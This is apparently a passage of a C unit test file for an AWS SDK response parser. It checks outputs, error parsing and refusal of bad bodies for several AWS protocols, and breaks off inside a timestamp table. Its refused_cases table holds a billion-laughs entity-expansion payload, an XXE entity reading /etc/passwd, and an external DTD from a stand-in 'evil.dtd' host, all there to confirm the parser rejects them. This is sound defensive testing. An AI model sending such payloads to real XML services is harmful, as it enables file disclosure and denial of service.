/* check_parse.c - aws_parse_response() on hand-written responses.
 *
 * One table of responses per concern, each run by a loop test: outputs of
 * every protocol (with small hand-built models for the traits our real
 * operations rarely use: flattened lists and maps, custom key/value names,
 * header, status and payload members), errors in each protocol's format,
 * and bodies that must be refused without a crash: malformed, truncated,
 * empty, over the size cap, billion laughs and external entities. The
 * generated models (ec2, iam, ecs, efs) are used where real operations
 * show the point. */
#include "config.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "aws/parse_internal.h"
#include "aws/protocol.h"
#include "aws/xml.h"

/* ---- a small hand-built model ----------------------------------------- */

enum {
	S_OUT, S_STR, S_INT, S_BOOL, S_TS, S_BLOB, S_LIST, S_FLATLIST, S_MAP,
	S_FLATMAP, S_NESTED, S_DOUBLE, S_REST, S_STRLIST, S_HDRMAP, S_PAYOUT,
	S_STRPAY, S_LONG, S_COUNT
};

static const struct aws_member m_nested[] = {
	{"Name", "name", NULL, S_STR, AWS_LOC_BODY, 0, 0},
	{"Id", "Id", NULL, S_STR, AWS_LOC_BODY, AWS_F_XML_ATTRIBUTE, 0},
};

static const struct aws_member m_out[] = {
	{"Name", "name", NULL, S_STR, AWS_LOC_BODY, 0, 0},
	{"Count", "count", NULL, S_INT, AWS_LOC_BODY, 0, 0},
	{"Big", "big", NULL, S_LONG, AWS_LOC_BODY, 0, 0},
	{"Flag", "flag", NULL, S_BOOL, AWS_LOC_BODY, 0, 0},
	{"When", "when", NULL, S_TS, AWS_LOC_BODY, 0, 0},
	{"Data", "data", NULL, S_BLOB, AWS_LOC_BODY, 0, 0},
	{"Items", "items", NULL, S_LIST, AWS_LOC_BODY, 0, 0},
	{"Flat", "flat", NULL, S_FLATLIST, AWS_LOC_BODY, AWS_F_FLATTENED, 0},
	{"Attrs", "attrs", NULL, S_MAP, AWS_LOC_BODY, 0, 0},
	{"FlatMap", "fm", NULL, S_FLATMAP, AWS_LOC_BODY, AWS_F_FLATTENED, 0},
	{"Nested", "nested", NULL, S_NESTED, AWS_LOC_BODY, 0, 0},
	{"Ratio", "ratio", NULL, S_DOUBLE, AWS_LOC_BODY, 0, 0},
	{"Owner", "id", NULL, S_STR, AWS_LOC_BODY, AWS_F_XML_ATTRIBUTE, 0},
};

static const struct aws_member m_rest[] = {
	{"ReqId", "x-amzn-RequestId", NULL, S_STR, AWS_LOC_HEADER, 0, 0},
	{"Count", "x-count", NULL, S_INT, AWS_LOC_HEADER, 0, 0},
	{"Ok", "x-ok", NULL, S_BOOL, AWS_LOC_HEADER, 0, 0},
	{"When", "x-when", NULL, S_TS, AWS_LOC_HEADER, 0, 0},
	{"Tags", "x-tags", NULL, S_STRLIST, AWS_LOC_HEADER, 0, 0},
	{"Meta", "x-meta-", NULL, S_HDRMAP, AWS_LOC_HEADERS, 0, 0},
	{"Doc", "x-doc", NULL, S_STR, AWS_LOC_HEADER, AWS_F_JSONVALUE, 0},
	{"Status", NULL, NULL, S_INT, AWS_LOC_STATUSCODE, 0, 0},
	{"Name", "name", NULL, S_STR, AWS_LOC_BODY, 0, 0},
	{"Size", NULL, NULL, S_INT, AWS_LOC_BODY, 0, 0},
	{"Created", NULL, NULL, S_TS, AWS_LOC_BODY, 0, 0},
	{"Items", NULL, NULL, S_LIST, AWS_LOC_BODY, 0, 0},
	{"Attrs", NULL, NULL, S_MAP, AWS_LOC_BODY, 0, 0},
};

static const struct aws_member m_payout[] = {
	{"ReqId", "x-amzn-RequestId", NULL, S_STR, AWS_LOC_HEADER, 0, 0},
	{"Body", NULL, NULL, S_NESTED, AWS_LOC_BODY, 0, 0},
};

static const struct aws_member m_strpay[] = {
	{"Text", NULL, NULL, S_STR, AWS_LOC_BODY, 0, 0},
};

#define SCALAR(n, t) {.name = n, .type = t, .member_shape = -1, .key_shape = -1, .value_shape = -1}

static const struct aws_shape test_shapes[S_COUNT] = {
	[S_OUT] = {.name = "Out", .type = AWS_T_STRUCTURE, .members = m_out,
		   .member_count = 13, .member_shape = -1, .key_shape = -1,
		   .value_shape = -1},
	[S_STR] = SCALAR("String", AWS_T_STRING),
	[S_INT] = SCALAR("Integer", AWS_T_INTEGER),
	[S_LONG] = SCALAR("Long", AWS_T_LONG),
	[S_BOOL] = SCALAR("Boolean", AWS_T_BOOLEAN),
	[S_TS] = SCALAR("Timestamp", AWS_T_TIMESTAMP),
	[S_BLOB] = SCALAR("Blob", AWS_T_BLOB),
	[S_DOUBLE] = SCALAR("Double", AWS_T_DOUBLE),
	[S_LIST] = {.name = "List", .type = AWS_T_LIST, .member_shape = S_STR,
		    .key_shape = -1, .value_shape = -1},
	[S_FLATLIST] = {.name = "FlatList", .type = AWS_T_LIST,
			.member_shape = S_INT, .member_location_name = "fl",
			.key_shape = -1, .value_shape = -1},
	[S_STRLIST] = {.name = "StrList", .type = AWS_T_LIST,
		       .member_shape = S_STR, .key_shape = -1,
		       .value_shape = -1},
	[S_MAP] = {.name = "Map", .type = AWS_T_MAP, .member_shape = -1,
		   .key_shape = S_STR, .value_shape = S_INT},
	[S_FLATMAP] = {.name = "FlatMap", .type = AWS_T_MAP, .member_shape = -1,
		       .key_shape = S_STR, .key_location_name = "k",
		       .value_shape = S_STR, .value_location_name = "v"},
	[S_HDRMAP] = {.name = "HeaderMap", .type = AWS_T_MAP,
		      .member_shape = -1, .key_shape = S_STR,
		      .value_shape = S_STR},
	[S_NESTED] = {.name = "Nested", .type = AWS_T_STRUCTURE,
		      .members = m_nested, .member_count = 2,
		      .member_shape = -1, .key_shape = -1, .value_shape = -1},
	[S_REST] = {.name = "RestOut", .type = AWS_T_STRUCTURE,
		    .members = m_rest, .member_count = 13, .member_shape = -1,
		    .key_shape = -1, .value_shape = -1},
	[S_PAYOUT] = {.name = "PayOut", .type = AWS_T_STRUCTURE,
		      .members = m_payout, .member_count = 2, .payload = "Body",
		      .member_shape = -1, .key_shape = -1, .value_shape = -1},
	[S_STRPAY] = {.name = "StrPay", .type = AWS_T_STRUCTURE,
		      .members = m_strpay, .member_count = 1, .payload = "Text",
		      .member_shape = -1, .key_shape = -1, .value_shape = -1},
};

static const struct aws_operation test_ops[] = {
	{"Op", "POST", "/", -1, S_OUT, "OpResult", 0},
	{"Plain", "POST", "/", -1, S_OUT, NULL, 0},
	{"Rest", "GET", "/r", -1, S_REST, NULL, 0},
	{"Pay", "GET", "/p", -1, S_PAYOUT, NULL, 0},
	{"StrPay", "GET", "/s", -1, S_STRPAY, NULL, 0},
	{"NoOut", "POST", "/", -1, AWS_NO_SHAPE, NULL, 0},
	{"Broken", "POST", "/", -1, 999, NULL, 0},
};

#define TEST_SERVICE(var, key, proto)                                        \
	static const struct aws_service_model var = {                        \
		.name = key, .protocol = proto, .shapes = test_shapes,       \
		.shape_count = S_COUNT, .operations = test_ops,              \
		.operation_count = 7}
TEST_SERVICE(svc_query, "t-query", AWS_PROTO_QUERY);
TEST_SERVICE(svc_ec2, "t-ec2", AWS_PROTO_EC2);
TEST_SERVICE(svc_json, "t-json", AWS_PROTO_JSON);
TEST_SERVICE(svc_rest, "t-rest", AWS_PROTO_REST_JSON);

static const struct aws_service_model *find_service(const char *name)
{
	static const struct aws_service_model *const mine[] = {
		&svc_query, &svc_ec2, &svc_json, &svc_rest};

	for (size_t i = 0; i < sizeof(mine) / sizeof(mine[0]); i++)
		if (strcmp(mine[i]->name, name) == 0)
			return mine[i];
	return aws_model_find(name);
}

static const struct aws_operation *find_op(const struct aws_service_model *s,
					   const char *name)
{
	for (int i = 0; i < s->operation_count; i++)
		if (strcmp(s->operations[i].name, name) == 0)
			return &s->operations[i];
	return NULL;
}

/* ---- the tables -------------------------------------------------------- */

struct pcase {
	const char *service, *operation;
	long status;
	const char *headers; /* "Name: value\n" lines */
	const char *body;
	const char *output;  /* expected JSON, when success is expected */
	enum aws_error_kind kind;
	const char *code, *message, *request_id; /* message: a substring */
};

static const struct pcase output_cases[] = {
	/* query: resultWrapper, every scalar type, lists and maps */
	{"t-query", "Op", 200, "",
	 "<OpResponse xmlns=\"urn:x\"><OpResult id=\"o-1\">"
	 "<name>a &amp; b</name><count> 42 </count><big>9007199254740993</big>"
	 "<flag>true</flag><when>2026-11-28T04:17:05.120Z</when>"
	 "<data>aGVs\nbG8=</data>"
	 "<items><member>x</member><member><![CDATA[<y>]]></member></items>"
	 "<fl>1</fl><other/><fl>2</fl>"
	 "<attrs><entry><key>a</key><value>1</value></entry>"
	 "<entry><key>b</key><value>2</value></entry>"
	 "<entry><key>a</key><value>3</value></entry></attrs>"
	 "<fm><k>K1</k><v>V1</v></fm><fm><v>V2</v><k>K2</k></fm>"
	 "<nested Id=\"n-1\"><name>inner</name></nested><ratio>0.25</ratio>"
	 "</OpResult><ResponseMetadata><RequestId>r</RequestId>"
	 "</ResponseMetadata></OpResponse>",
	 "{\"Name\":\"a & b\",\"Count\":42,\"Big\":9007199254740992,"
	 "\"Flag\":true,\"When\":\"2026-11-28T04:17:05.12Z\","
	 "\"Data\":\"aGVsbG8=\",\"Items\":[\"x\",\"<y>\"],\"Flat\":[1,2],"
	 "\"Attrs\":{\"a\":3,\"b\":2},\"FlatMap\":{\"K1\":\"V1\",\"K2\":\"V2\"},"
	 "\"Nested\":{\"Name\":\"inner\",\"Id\":\"n-1\"},\"Ratio\":0.25,"
	 "\"Owner\":\"o-1\"}", 0, NULL, NULL, NULL},
	/* missing members are absent; empty elements are empty values;
	 * a repeated scalar keeps the last, as botocore */
	{"t-query", "Op", 200, "",
	 "<OpResponse><OpResult><name/><name>second</name><items/>"
	 "<flag>True</flag><nested/></OpResult></OpResponse>",
	 "{\"Name\":\"second\",\"Items\":[],\"Flag\":false,\"Nested\":{}}", 0, NULL, NULL, NULL},
	/* no output shape: empty object, the body does not matter */
	{"t-query", "NoOut", 200, "", "", "{}", 0, NULL, NULL, NULL},
	{"t-query", "NoOut", 200, "", "<DeleteThingResponse/>", "{}", 0, NULL, NULL, NULL},
	/* ec2: <item> lists, locationName'd members, real model */
	{"ec2", "DescribeVpcs", 200, "",
	 "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
	 "<DescribeVpcsResponse xmlns=\"http://ec2.amazonaws.com/doc/2016-11-15/\">"
	 "<requestId>7a62c49f</requestId><vpcSet><item><vpcId>vpc-1</vpcId>"
	 "<state>available</state><cidrBlock>10.0.0.0/16</cidrBlock>"
	 "<isDefault>false</isDefault><tagSet><item><key>Name</key>"
	 "<value>ecsw</value></item></tagSet></item></vpcSet>"
	 "</DescribeVpcsResponse>",
	 "{\"Vpcs\":[{\"VpcId\":\"vpc-1\",\"State\":\"available\","
	 "\"CidrBlock\":\"10.0.0.0/16\",\"IsDefault\":false,"
	 "\"Tags\":[{\"Key\":\"Name\",\"Value\":\"ecsw\"}]}]}", 0, NULL, NULL, NULL},
	/* query, real model: iam GetUser with a timestamp */
	{"iam", "GetUser", 200, "",
	 "<GetUserResponse xmlns=\"https://iam.amazonaws.com/doc/2010-05-08/\">"
	 "<GetUserResult><User><Path>/</Path><UserName>u</UserName>"
	 "<UserId>AIDA</UserId><Arn>arn:aws:iam::1:user/u</Arn>"
	 "<CreateDate>2026-11-28T04:17:05+01:00</CreateDate></User>"
	 "</GetUserResult></GetUserResponse>",
	 "{\"User\":{\"Path\":\"/\",\"UserName\":\"u\",\"UserId\":\"AIDA\","
	 "\"Arn\":\"arn:aws:iam::1:user/u\","
	 "\"CreateDate\":\"2026-11-28T03:17:05Z\"}}", 0, NULL, NULL, NULL},
	/* json 1.1: nulls dropped, values as sent, epoch timestamps */
	{"t-json", "Plain", 200, "x-amzn-RequestId: q\n",
	 "{\"name\":\"n\",\"count\":3,\"flag\":false,\"when\":1700000000.25,"
	 "\"items\":[\"a\",null],\"attrs\":{\"k\":1},\"nested\":null,"
	 "\"ratio\":1.5,\"unknown\":1}",
	 "{\"Name\":\"n\",\"Count\":3,\"Flag\":false,"
	 "\"When\":\"2023-11-14T22:13:20.25Z\",\"Items\":[\"a\",null],"
	 "\"Attrs\":{\"k\":1},\"Ratio\":1.5}", 0, NULL, NULL, NULL},
	{"t-json", "Plain", 200, "", "", "{}", 0, NULL, NULL, NULL},
	{"ecs", "DescribeClusters", 200, "",
	 "{\"clusters\":[{\"clusterArn\":\"arn:c\",\"clusterName\":\"c\","
	 "\"status\":\"ACTIVE\",\"runningTasksCount\":2,"
	 "\"tags\":[{\"key\":\"k\",\"value\":\"v\"}]}],\"failures\":[]}",
	 "{\"clusters\":[{\"clusterArn\":\"arn:c\",\"clusterName\":\"c\","
	 "\"status\":\"ACTIVE\",\"runningTasksCount\":2,"
	 "\"tags\":[{\"key\":\"k\",\"value\":\"v\"}]}],\"failures\":[]}", 0, NULL, NULL, NULL},
	/* rest-json: headers, status code, header map, body */
	{"t-rest", "Rest", 201,
	 "X-Amzn-RequestId: rid-9\nx-count: 17\nx-ok: TRUE\n"
	 "x-when: Sat, 28 Nov 2026 04:17:05 GMT\nx-tags: a, b ,c\n"
	 "X-Meta-Color: blue\nx-meta-size: L\n"
	 "x-doc: eyJhIjpbMSwyXX0=\n",
	 "{\"name\":\"body\",\"Size\":\"12\",\"Created\":\"1700000000\","
	 "\"Items\":[\"i\"],\"Attrs\":{}}",
	 "{\"ReqId\":\"rid-9\",\"Count\":17,\"Ok\":true,"
	 "\"When\":\"2026-11-28T04:17:05Z\",\"Tags\":[\"a\",\"b\",\"c\"],"
	 "\"Meta\":{\"Color\":\"blue\",\"size\":\"L\"},\"Doc\":{\"a\":[1,2]},"
	 "\"Status\":201,\"Name\":\"body\",\"Size\":12,"
	 "\"Created\":\"2023-11-14T22:13:20Z\",\"Items\":[\"i\"],\"Attrs\":{}}", 0, NULL, NULL, NULL},
	/* rest-json structure payload, and a string payload */
	{"t-rest", "Pay", 200, "x-amzn-RequestId: p\n", "{\"name\":\"pl\"}",
	 "{\"ReqId\":\"p\",\"Body\":{\"Name\":\"pl\"}}", 0, NULL, NULL, NULL},
	{"t-rest", "StrPay", 200, "", "not json at all",
	 "{\"Text\":\"not json at all\"}", 0, NULL, NULL, NULL},
	{"efs", "DescribeFileSystems", 200, "",
	 "{\"FileSystems\":[{\"FileSystemId\":\"fs-1\","
	 "\"CreationTime\":\"2026-11-28T04:17:05.000000+00:00\","
	 "\"SizeInBytes\":{\"Value\":6144},\"Encrypted\":true}]}",
	 "{\"FileSystems\":[{\"FileSystemId\":\"fs-1\","
	 "\"CreationTime\":\"2026-11-28T04:17:05Z\","
	 "\"SizeInBytes\":{\"Value\":6144},\"Encrypted\":true}]}", 0, NULL, NULL, NULL},
};

static const struct pcase error_cases[] = {
	/* query */
	{"iam", "GetUser", 404, "",
	 "<ErrorResponse xmlns=\"https://iam.amazonaws.com/doc/2010-05-08/\">"
	 "<Error><Type>Sender</Type><Code>NoSuchEntity</Code>"
	 "<Message>The user with name x cannot be found.</Message></Error>"
	 "<RequestId>4c3e-a1</RequestId></ErrorResponse>",
	 NULL, AWS_ERR_SERVICE, "NoSuchEntity", "user with name x", "4c3e-a1"},
	/* ec2: RequestID, under Errors */
	{"ec2", "DescribeVpcs", 400, "",
	 "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Response><Errors><Error>"
	 "<Code>InvalidVpcID.NotFound</Code><Message>The vpc ID 'vpc-1' does "
	 "not exist</Message></Error></Errors><RequestID>59dbff89</RequestID>"
	 "</Response>",
	 NULL, AWS_ERR_SERVICE, "InvalidVpcID.NotFound", "does not exist",
	 "59dbff89"},
	/* request id from the headers when the body has none */
	{"ec2", "DescribeVpcs", 401, "x-amzn-RequestId: hdr-1\n",
	 "<Response><Errors><Error><Code>AuthFailure</Code></Error></Errors>"
	 "</Response>",
	 NULL, AWS_ERR_SERVICE, "AuthFailure", "", "hdr-1"},
	/* json: __type prefix and suffix cut, Message spelling */
	{"ecs", "DescribeClusters", 400, "x-amzn-RequestId: j-1\n",
	 "{\"__type\":\"com.amazonaws.ecs#ClusterNotFoundException:http://x\","
	 "\"Message\":\"Cluster not found.\"}",
	 NULL, AWS_ERR_SERVICE, "ClusterNotFoundException", "Cluster not found",
	 "j-1"},
	{"ecs", "DescribeClusters", 400, "",
	 "{\"__type\":\"ThrottlingException\",\"errorMessage\":\"slow down\"}",
	 NULL, AWS_ERR_SERVICE, "ThrottlingException", "slow down", ""},
	{"ecs", "DescribeClusters", 400,
	 "x-amzn-query-error: AWS.Old.Code;Sender\n",
	 "{\"__type\":\"NewException\",\"message\":\"m\"}",
	 NULL, AWS_ERR_SERVICE, "AWS.Old.Code", "m", ""},
	/* json without any code: the status */
	{"ecs", "DescribeClusters", 400, "x-amz-request-id: s3-style\n", "",
	 NULL, AWS_ERR_SERVICE, "400", "", "s3-style"},
	/* rest-json: the header first, then code/Code */
	{"efs", "DescribeFileSystems", 404,
	 "x-amzn-ErrorType: FileSystemNotFound:http://internal.amazon.com/\n"
	 "x-amzn-RequestId: e-1\n",
	 "{\"ErrorCode\":\"FileSystemNotFound\",\"Message\":\"fs-1 not found\"}",
	 NULL, AWS_ERR_SERVICE, "FileSystemNotFound", "fs-1 not found", "e-1"},
	{"t-rest", "Rest", 400, "",
	 "{\"code\":\"BadRequestException\",\"message\":\"bad\","
	 "\"__type\":\"Other\"}",
	 NULL, AWS_ERR_SERVICE, "BadRequestException", "bad", ""},
	/* generic 5xx: empty body or an HTML page */
	{"ec2", "DescribeVpcs", 503, "", "", NULL, AWS_ERR_SERVICE, "503",
	 "Service Unavailable", ""},
	{"ecs", "DescribeClusters", 502, "",
	 "  <html><body><b>Http/1.1 Bad Gateway</b></body></html>", NULL,
	 AWS_ERR_SERVICE, "502", "Bad Gateway", ""},
	{"iam", "GetUser", 500, "", "<!DOCTYPE html>\n<html lang=en>oops</html>",
	 NULL, AWS_ERR_SERVICE, "500", "Internal Server Error", ""},
	/* a 3xx is not success */
	{"ecs", "DescribeClusters", 307, "", "{\"message\":\"moved\"}", NULL,
	 AWS_ERR_SERVICE, "307", "moved", ""},
};

static const struct pcase refused_cases[] = {
	/* malformed and truncated */
	{"ec2", "DescribeVpcs", 200, "", "<DescribeVpcsResponse><vpcSet><item>",
	 NULL, AWS_ERR_PARSE, "InvalidResponse", "HTTP 200 response is not valid XML", ""},
	{"iam", "GetUser", 403, "x-amzn-RequestId: t-1\n",
	 "<ErrorResponse><Error><Code>Acc", NULL, AWS_ERR_PARSE,
	 "InvalidResponse", "HTTP 403 response is not valid XML", "t-1"},
	{"iam", "GetUser", 400, "", "Forbidden by proxy", NULL, AWS_ERR_PARSE,
	 "InvalidResponse", "HTTP 400", ""},
	{"ecs", "DescribeClusters", 200, "", "{\"clusters\":[{\"clusterN",
	 NULL, AWS_ERR_PARSE, "InvalidResponse", "HTTP 200 response is not valid JSON", ""},
	{"ecs", "DescribeClusters", 400, "", "<html>no</html>", NULL,
	 AWS_ERR_PARSE, "InvalidResponse", "HTTP 400 response is not valid JSON", ""},
	{"ecs", "DescribeClusters", 200, "", "[1,2]", NULL, AWS_ERR_PARSE,
	 "InvalidResponse", "expected an object", ""},
	{"ecs", "DescribeClusters", 200, "", "{\"clusters\":{\"a\":1}}", NULL,
	 AWS_ERR_PARSE, "InvalidResponse", "clusters: expected an array", ""},
	/* empty where XML is promised */
	{"ec2", "DescribeVpcs", 200, "", "", NULL, AWS_ERR_PARSE,
	 "InvalidResponse", "HTTP 200 response has an empty body", ""},
	{"iam", "GetUser", 404, "", "", NULL, AWS_ERR_PARSE, "InvalidResponse",
	 "HTTP 404 response has an empty body", ""},
	/* XML that is well-formed but not what the protocol promises */
	{"iam", "GetUser", 200, "", "<GetUserResponse/>", NULL, AWS_ERR_PARSE,
	 "InvalidResponse", "no <GetUserResult> element", ""},
	{"iam", "GetUser", 400, "", "<Oops><Code>x</Code></Oops>", NULL,
	 AWS_ERR_PARSE, "InvalidResponse", "without an <Error> element", ""},
	{"t-query", "Plain", 200, "", "<R><count>twelve</count></R>", NULL,
	 AWS_ERR_PARSE, "InvalidResponse", "Count", ""},
	{"t-query", "Plain", 200, "",
	 "<R><attrs><entry><key>a</key><bogus>1</bogus></entry></attrs></R>",
	 NULL, AWS_ERR_PARSE, "InvalidResponse", "unexpected <bogus>", ""},
	{"t-query", "Plain", 200, "",
	 "<R><attrs><entry><value>1</value></entry></attrs></R>", NULL,
	 AWS_ERR_PARSE, "InvalidResponse", "map entry without", ""},
	{"t-rest", "Rest", 200, "x-count: many\n", "{}", NULL, AWS_ERR_PARSE,
	 "InvalidResponse", "Count", ""},
	{"t-rest", "Rest", 200, "x-doc: !!!!\n", "{}", NULL, AWS_ERR_PARSE,
	 "InvalidResponse", "Doc", ""},
	/* a table pointing outside itself is our bug, not AWS's */
	{"t-json", "Broken", 200, "", "{}", NULL, AWS_ERR_INTERNAL, "", "shape",
	 ""},
	/* billion laughs: refused, never expanded */
	{"iam", "GetUser", 200, "",
	 "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">"
	 "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
	 "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
	 "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"
	 "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">"
	 "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">"
	 "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">"
	 "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">"
	 "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">]>"
	 "<GetUserResponse><GetUserResult><User><UserName>&lol9;</UserName>"
	 "</User></GetUserResult></GetUserResponse>",
	 NULL, AWS_ERR_PARSE, "UnsafeXML", "DOCTYPE", ""},
	/* external entity: refused, the file is never read */
	{"iam", "GetUser", 400, "",
	 "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "
	 "\"file:///etc/passwd\">]><ErrorResponse><Error><Code>&xxe;</Code>"
	 "<Message>&xxe;</Message></Error></ErrorResponse>",
	 NULL, AWS_ERR_PARSE, "UnsafeXML", "DOCTYPE", ""},
	{"ec2", "DescribeVpcs", 200, "",
	 "<!DOCTYPE r SYSTEM \"http://192.0.2.1/evil.dtd\"><r/>", NULL,
	 AWS_ERR_PARSE, "UnsafeXML", "DOCTYPE", ""},
	/* an entity that was never declared is simply malformed */
	{"ec2", "DescribeVpcs", 200, "", "<r><vpcSet>&undeclared;</vpcSet></r>",
	 NULL, AWS_ERR_PARSE, "InvalidResponse", "not valid XML", ""},
};

static void add_headers(struct aws_http_response *resp, const char *spec)
{
	char *copy = strdup(spec), *save = NULL;

	ck_assert_ptr_nonnull(copy);
	for (char *line = strtok_r(copy, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save)) {
		char *colon = strchr(line, ':');

		ck_assert_ptr_nonnull(colon);
		*colon = '\0';
		ck_assert_int_eq(aws_http_response_add_header(resp, line,
							      colon + 2), 0);
	}
	free(copy);
}

/* Run one case; check what it promises. */
static void run_case(const struct pcase *c)
{
	const struct aws_service_model *svc = find_service(c->service);
	const struct aws_operation *op;
	struct aws_http_response resp;
	struct aws_error err;
	cJSON *out = (cJSON *)&err, *want;
	int rc;

	ck_assert_msg(svc, "no service %s", c->service);
	op = find_op(svc, c->operation);
	ck_assert_msg(op, "no operation %s", c->operation);
	aws_http_response_init(&resp);
	resp.status = c->status;
	add_headers(&resp, c->headers);
	ck_assert_int_eq(buf_append_str(&resp.body, c->body), 0);
	aws_error_clear(&err);
	rc = aws_parse_response(svc, op, &resp, &out, &err);
	if (c->output) {
		char *got = out ? cJSON_PrintUnformatted(out) : NULL;

		ck_assert_msg(rc == 0, "%s %ld: failed: %s: %s", c->operation,
			      c->status, err.code, err.message);
		want = cJSON_Parse(c->output);
		ck_assert_ptr_nonnull(want);
		ck_assert_msg(cJSON_Compare(want, out, 1),
			      "%s: got %s, want %s", c->operation, got,
			      c->output);
		free(got);
		cJSON_Delete(want);
		cJSON_Delete(out);
	} else {
		ck_assert_int_eq(rc, -1);
		ck_assert_ptr_null(out);
		ck_assert_msg(err.kind == c->kind, "%s %ld: kind %d want %d (%s)",
			      c->operation, c->status, err.kind, c->kind,
			      err.message);
		ck_assert_str_eq(err.code, c->code);
		ck_assert_msg(strstr(err.message, c->message),
			      "message \"%s\" lacks \"%s\"", err.message,
			      c->message);
		ck_assert_str_eq(err.request_id, c->request_id);
		ck_assert_int_eq(err.http_status, c->status);
		/* Nothing of /etc/passwd ever reaches an error. */
		ck_assert_ptr_null(strstr(err.message, "root:"));
		ck_assert_ptr_null(strstr(err.code, "root:"));
	}
	aws_http_response_free(&resp);
}

START_TEST(test_outputs)
{
	run_case(&output_cases[_i]);
}
END_TEST

START_TEST(test_errors)
{
	run_case(&error_cases[_i]);
}
END_TEST

START_TEST(test_refused)
{
	run_case(&refused_cases[_i]);
}
END_TEST

/* A body over the cap is refused before any parser sees it. */
START_TEST(test_huge)
{
	const struct aws_service_model *svc = aws_model_find("ec2");
	const struct aws_operation *op = aws_model_operation(svc, "DescribeVpcs");
	struct aws_http_response resp;
	struct aws_error err;
	cJSON *out = NULL;
	size_t n = AWS_PARSE_MAX_BODY + 1;
	char *big = malloc(n);

	ck_assert_ptr_nonnull(big);
	memset(big, ' ', n);
	memcpy(big, "<a>", 3);
	aws_http_response_init(&resp);
	resp.status = 200;
	ck_assert_int_eq(buf_append(&resp.body, big, n), 0);
	ck_assert_int_eq(aws_parse_response(svc, op, &resp, &out, &err), -1);
	ck_assert_int_eq(err.kind, AWS_ERR_PARSE);
	ck_assert_str_eq(err.code, "ResponseTooLarge");
	ck_assert_ptr_nonnull(strstr(err.message, "HTTP 200"));
	ck_assert_ptr_null(out);
	/* And the XML reader refuses it on its own too. */
	{
		enum aws_xml_status st;

		ck_assert_ptr_null(aws_xml_read(big, n, &st, NULL, 0));
		ck_assert_int_eq(st, AWS_XML_TOO_LARGE);
	}
	free(big);
	aws_http_response_free(&resp);
}
END_TEST

/* The billion laughs is refused at once, not after expanding. */
START_TEST(test_laughs_fast)
{
	const struct pcase *c = &refused_cases[0];
	struct timespec a, b;

	for (size_t i = 0; i < sizeof(refused_cases) / sizeof(*c); i++)
		if (strstr(refused_cases[i].body, "lolz"))
			c = &refused_cases[i];
	ck_assert_ptr_nonnull(strstr(c->body, "lolz"));
	clock_gettime(CLOCK_MONOTONIC, &a);
	for (int i = 0; i < 50; i++)
		run_case(c);
	clock_gettime(CLOCK_MONOTONIC, &b);
	ck_assert_int_lt((b.tv_sec - a.tv_sec) * 1000 +
				 (b.tv_nsec - a.tv_nsec) / 1000000,
			 2000);
}
END_TEST

/* The caller's "where" survives; bad arguments are reported. */
START_TEST(test_where_and_args)
{
	const struct aws_service_model *svc = aws_model_find("iam");
	const struct aws_operation *op = aws_model_operation(svc, "GetUser");
	struct aws_http_response resp;
	struct aws_error err;
	cJSON *out = NULL;
	char line[1024];

	aws_http_response_init(&resp);
	resp.status = 404;
	buf_append_str(&resp.body,
		       "<ErrorResponse><Error><Code>NoSuchEntity</Code>"
		       "<Message>gone</Message></Error><RequestId>r</RequestId>"
		       "</ErrorResponse>");
	aws_error_clear(&err);
	aws_error_where(&err, "iam:GetUser");
	snprintf(err.code, sizeof(err.code), "stale");
	ck_assert_int_eq(aws_parse_response(svc, op, &resp, &out, &err), -1);
	ck_assert_str_eq(aws_error_format(&err, line, sizeof(line)),
			 "iam:GetUser: NoSuchEntity: gone (request id r)");
	ck_assert_int_eq(aws_parse_response(NULL, op, &resp, &out, &err), -1);
	ck_assert_int_eq(err.kind, AWS_ERR_INTERNAL);
	ck_assert_int_eq(aws_parse_response(svc, op, &resp, NULL, &err), -1);
	aws_http_response_free(&resp);
}
END_TEST

/* Values that may be secrets are never quoted in an error. */
START_TEST(test_secrets_not_quoted)
{
	const struct aws_service_model *svc = aws_model_find("ecr");
	const struct aws_operation *op =
		aws_model_operation(svc, "GetAuthorizationToken");
	const struct aws_shape *int_shape = &test_shapes[S_INT];
	struct aws_http_response resp;
	struct aws_error err;
	cJSON *out = NULL, *v;

	aws_error_clear(&err);
	v = aws_parse_scalar_text(int_shape, AWS_F_SENSITIVE, "s3cr3t", 0,
				  "Pin", &err);
	ck_assert_ptr_null(v);
	ck_assert_int_eq(err.kind, AWS_ERR_PARSE);
	ck_assert_ptr_nonnull(strstr(err.message, "Pin"));
	ck_assert_ptr_null(strstr(err.message, "s3cr3t"));
	/* the same value, not sensitive, is quoted to help debugging */
	v = aws_parse_scalar_text(int_shape, 0, "s3cr3t", 0, "Pin", &err);
	ck_assert_ptr_null(v);
	ck_assert_ptr_nonnull(strstr(err.message, "s3cr3t"));

	aws_http_response_init(&resp);
	resp.status = 200;
	buf_append_str(&resp.body, "{\"authorizationData\":[{\"authoriz"
				   "ationToken\":\"QVdTOnNlY3JldA");
	ck_assert_int_eq(aws_parse_response(svc, op, &resp, &out, &err), -1);
	ck_assert_int_eq(err.kind, AWS_ERR_PARSE);
	ck_assert_ptr_nonnull(strstr(err.message, "HTTP 200"));
	ck_assert_ptr_null(strstr(err.message, "QVdT"));
	ck_assert_ptr_null(strstr(err.message, "authorization"));
	aws_http_response_free(&resp);
}
END_TEST

struct tscase {
	const char *in, *out; /* out NULL: unreadable */
};

static const struct tscase ts_cases[] = {
	{"2026-11-28T04:17:05Z", "2026-11-28T04:17:05Z"},
